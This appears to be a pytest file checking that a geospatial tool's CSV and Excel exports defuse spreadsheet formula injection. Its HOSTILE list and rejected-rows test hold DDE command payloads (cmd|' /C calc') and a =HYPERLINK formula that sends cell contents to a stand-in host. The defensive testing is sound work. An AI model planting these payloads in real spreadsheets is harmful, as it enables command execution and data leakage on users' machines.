"""Formula-safe output (issue 13): every CSV and Excel file we write reopens with no formula.

The hostile cells are the ones the issue quotes; each export is reopened the way a spreadsheet
would read it (csv module, openpyxl without data_only) and searched for anything runnable.
"""
from __future__ import annotations

import csv
import io
import subprocess
import sys
from datetime import date
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook

from fixtures_sites import IN_W1, IN_W2, ward_layer, write_csv
from geo.cells import is_risky, safe_cell, safe_csv, safe_frame, write_safe_row
from geo.exports import export_table
from geo.sites.export import sites_csv
from geo.sites.importer import import_sites, rejections_csv
from geo.sites.store import SiteStore
from geo.sources import Provenance

HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1", "-2+3+cmd|' /C calc'!A0", "=1+1"]
ROOT = Path(__file__).resolve().parents[1]


def _runnable(text: str) -> bool:
    """What a spreadsheet would run: a cell whose first character starts a formula (after stripping
    the whitespace some importers strip)."""
    if not isinstance(text, str):
        return False
    try:
        float(text)
        return False  # a plain number such as -1.9 is data, not a formula
    except ValueError:
        return text.lstrip("\t\r\n ").startswith(("=", "+", "-", "@"))


def _csv_cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]


def _assert_no_formula_in_csv(text: str) -> None:
    bad = [c for c in _csv_cells(text) if _runnable(c)]
    assert not bad, f"runnable cells in CSV: {bad}"


def _assert_no_formula_in_xlsx(path: Path) -> None:
    book = load_workbook(path)  # not data_only: formulas would show as data_type 'f'
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula cell {sheet.title}!{cell.coordinate}: {cell.value!r}"
                assert not _runnable(cell.value), f"runnable text {sheet.title}!{cell.coordinate}: {cell.value!r}"


def test_safe_cell_quotes_risky_text_and_keeps_everything() -> None:
    for value in HOSTILE:
        out = safe_cell(value)
        assert out == "'" + value  # nothing lost: the tab or CR stays after the quote
        assert not _runnable(out)
    assert safe_cell("\t=1+1") == "'\t=1+1"  # never '=1+1'
    for value in ("Hotel", "", None, 3, -3, 2.5, "[c]", "O'Brien House"):
        assert safe_cell(value) == value
    assert is_risky("-1") and not is_risky(-1)


def test_safe_frame_keeps_numbers_as_numbers() -> None:
    frame = pd.DataFrame({"name": HOSTILE, "people": range(len(HOSTILE)), "change": [-1.5] * len(HOSTILE),
                          "=bad heading": ["x"] * len(HOSTILE)})
    out = safe_frame(frame)
    assert out["people"].tolist() == list(range(len(HOSTILE)))
    assert out["change"].tolist() == [-1.5] * len(HOSTILE)
    assert list(out.columns)[-1] == "'=bad heading"
    text = safe_csv(frame, index=False)
    _assert_no_formula_in_csv(text)
    reread = pd.read_csv(io.StringIO(text))
    assert reread["people"].dtype.kind == "i"


def test_openpyxl_never_writes_a_formula(tmp_path: Path) -> None:
    book = Workbook()
    write_safe_row(book.active, HOSTILE + [1, -2, None])
    book.save(tmp_path / "t.xlsx")
    _assert_no_formula_in_xlsx(tmp_path / "t.xlsx")
    values = [c.value for c in load_workbook(tmp_path / "t.xlsx").active[1]]
    assert values[len(HOSTILE):len(HOSTILE) + 2] == [1, -2]


def _provenance() -> dict[str, Provenance]:
    return {"x": Provenance(source_id="x", title="=T", publisher="@P", licence="+L", release="-R", path="/x",
                            file_name="=x.csv", origin="shared", sha256="ab" * 32, size_bytes=1, url=None)}


def _site_frame() -> pd.DataFrame:
    n = len(HOSTILE)
    return pd.DataFrame({"reference": [f"R{i}" for i in range(n)], "site_type": ["hotel"] * n, "name": HOSTILE,
                         "address": HOSTILE[::-1], "ward_code": ["W1"] * n, "lad_code": ["L1"] * n,
                         "latitude": [52.0] * n, "longitude": [-1.9] * n, "people": list(range(n))})


@pytest.mark.parametrize("level", ["lad", "site"])
def test_table_exports_reopen_with_no_formula(tmp_path: Path, level: str) -> None:
    frame = _site_frame()
    if level == "lad":
        frame = frame.rename(columns={"name": "lad_name"}).drop(columns=["reference"])
        frame["lad_code"] = [f"E0600000{i}" for i in range(len(frame))]
    kwargs = dict(provenance=_provenance(), level=level, made_on=date(2026, 1, 1), role="analyst")
    csv_out = export_table(frame, tmp_path / "t.csv", **kwargs)
    with open(csv_out, encoding="utf-8", newline="") as f:
        text = f.read()
    _assert_no_formula_in_csv(text)
    assert "'\t=1+1" in text  # the tab is kept, behind the quote
    _assert_no_formula_in_xlsx(export_table(frame, tmp_path / "t.xlsx", **kwargs))


def test_site_csv_export_has_no_formula() -> None:
    _assert_no_formula_in_csv(sites_csv(_site_frame().assign(valid_from=pd.Timestamp("2025-01-01"))))


def test_rejected_rows_csv_has_no_formula(tmp_path: Path) -> None:
    """Regression: the rejected-rows CSV kept =HYPERLINK and friends as they were."""
    rows = [["Reference", "Type", "Name", "Latitude", "Longitude", "People"]]
    rows += [[f"R{i}", "hotel", name, IN_W1[1], IN_W1[0], "lots"] for i, name in enumerate(HOSTILE)]
    rows += [["=cmd|' /C calc'!A0", "hotel", "ok", IN_W2[1], IN_W2[0], "-1"]]
    path = write_csv(tmp_path / "sites.csv", rows)
    result = import_sites(path, tmp_path / "s.sqlite", ward_layer())
    assert result.rejected >= 1
    store = SiteStore(tmp_path / "s.sqlite")
    text = rejections_csv(store.rejections(result.batch))
    _assert_no_formula_in_csv(text)
    cli = subprocess.run([sys.executable, "-m", "geo", "sites", "rejections", "--db", str(tmp_path / "s.sqlite"),
                          "--batch", str(result.batch)], capture_output=True, text=True, cwd=ROOT)
    assert cli.returncode == 0, cli.stderr
    _assert_no_formula_in_csv(cli.stdout)
    assert len(_csv_cells(cli.stdout)) > 0


def test_fair_share_csv_has_no_formula() -> None:
    from ui.fair_share import csv_with_sources

    frame = pd.DataFrame({"Authority": HOSTILE, "People": range(len(HOSTILE))})
    text = csv_with_sources(frame, ["Source: Home Office"]).decode("utf-8")
    body = "\n".join(line for line in text.splitlines() if not line.startswith("# "))
    _assert_no_formula_in_csv(body)


def test_column_wise_guard_gives_the_cell_by_cell_answer() -> None:
    """safe_frame tests whole columns at once (for speed); every cell must come out exactly as
    safe_cell would have made it, in text, mixed, categorical and string columns, gaps kept."""
    cells = [*HOSTILE, "Hotel", "", None, float("nan"), 3, -3, -2.5, "-", "\uff1dx", b"=bytes", pd.NA, "O'Brien"]
    frame = pd.DataFrame({"mixed": cells,
                          "text": pd.Series([c if isinstance(c, str) else None for c in cells], dtype="string"),
                          "category": pd.Categorical([c if isinstance(c, str) else None for c in cells])})
    out = safe_frame(frame)
    for col in frame.columns:
        for before, after in zip(frame[col].astype(object), out[col].astype(object), strict=True):
            if isinstance(before, str):
                assert after == safe_cell(before), (col, before, after)
            elif before is None or before is pd.NA or (isinstance(before, float) and before != before):
                assert pd.isna(after), (col, before, after)
            else:
                assert after is before or after == before, (col, before, after)


def test_site_csv_dates_read_as_before() -> None:
    """The export formats dates column-wise; the text must be what to_csv's date_format gave."""
    from geo.sites.export import export_frame, iso_dates

    frame = _site_frame().assign(valid_from=pd.to_datetime(["2025-01-01", None, "1999-12-31", "2025-06-30",
                                                            "2024-02-29", None, "2030-01-01"]))
    expected = safe_csv(export_frame(frame), index=False, date_format="%Y-%m-%d")
    assert sites_csv(frame) == expected
    assert iso_dates(frame)["valid_from"].tolist()[:2] == ["2025-01-01", None]
